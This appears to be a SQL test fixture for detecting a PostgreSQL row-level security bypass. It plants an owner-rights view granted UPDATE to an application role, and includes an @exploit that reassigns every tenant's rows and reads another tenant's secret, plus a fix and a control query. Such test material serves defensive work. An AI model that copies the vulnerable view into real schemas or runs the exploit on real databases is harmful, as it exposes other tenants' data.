-- What: A view that may be changed and not read: UPDATE without WHERE reaches all rows, with its owner's rights.
-- Class: view_owner_rights
-- Object: public.inbox
-- Exploit: UPDATE through the view, which makes every row an own one.
-- Config: fixtures = { ["public.items"] = "insert into public.items (tenant_id, body) values ({tenant}, 'canary')" }
-- @schema
create table items (id bigint generated always as identity primary key, tenant_id uuid not null, body text not null);
alter table items enable row level security;
alter table items force row level security;
create policy tenant on items using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on items to app_user;
-- @superuser
create view inbox as select tenant_id as recipient, body from items;
grant update on inbox to app_user;
-- @rows
insert into items (tenant_id, body) values (:'A', 'A-row'), (:'B', 'B-secret');
-- @fix
revoke all on inbox from app_user;
-- @control
select from items where tenant_id = :'A';
-- @exploit
update inbox set recipient = :'A';
select body from items where body = 'B-secret';
